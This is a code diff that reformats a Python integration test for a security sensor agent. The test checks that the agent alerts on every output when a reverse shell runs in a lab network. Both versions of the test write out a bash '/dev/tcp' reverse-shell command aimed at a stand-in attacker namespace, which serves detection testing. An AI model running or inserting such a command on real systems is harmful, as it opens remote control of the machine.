@@ -29,7 +29,7 @@ def test_run_sends_a_reverse_shell_to_every_output(sensorlab, netlab, tmp_path: 
         config.write_text(f"""
 [detection]
 alerts = ["{alerts}"]
-spool_dir = "{tmp_path / 'spool'}"
+spool_dir = "{tmp_path / "spool"}"
 [outputs.journald]
 enabled = true
 socket = "{journal.path}"
@@ -45,17 +45,23 @@ format = "ocsf"
 """)
         try:
             with log.open("w") as err:
-                agent = subprocess.Popen([sys.executable, "-m", "agent", "run", "--config", str(config)], stderr=err,
-                                         stdout=subprocess.DEVNULL)
+                agent = subprocess.Popen(
+                    [sys.executable, "-m", "agent", "run", "--config", str(config)],
+                    stderr=err,
+                    stdout=subprocess.DEVNULL,
+                )
             try:
                 assert wait_until(lambda: '"sensor_ready"' in log.read_text(), timeout=60), log.read_text()
-                listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))\nexit\n",
-                                             duration=10)
-                netlab.run(netlab.victim_ns,
-                           ["bash", "-c", f"bash -i >& /dev/tcp/{netlab.attacker_ip4}/{port} 0>&1; exit 0"], timeout=15)
+                listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))\nexit\n", duration=10)
+                netlab.run(
+                    netlab.victim_ns,
+                    ["bash", "-c", f"bash -i >& /dev/tcp/{netlab.attacker_ip4}/{port} 0>&1; exit 0"],
+                    timeout=15,
+                )
                 assert b"cw-42" in listener.wait(timeout=15)
-                assert wait_until(lambda: bool(journal.items and syslog.items and webhook.items), timeout=20), \
+                assert wait_until(lambda: bool(journal.items and syslog.items and webhook.items), timeout=20), (
                     log.read_text()
+                )
                 time.sleep(1)
             finally:
                 agent.send_signal(signal.SIGTERM)
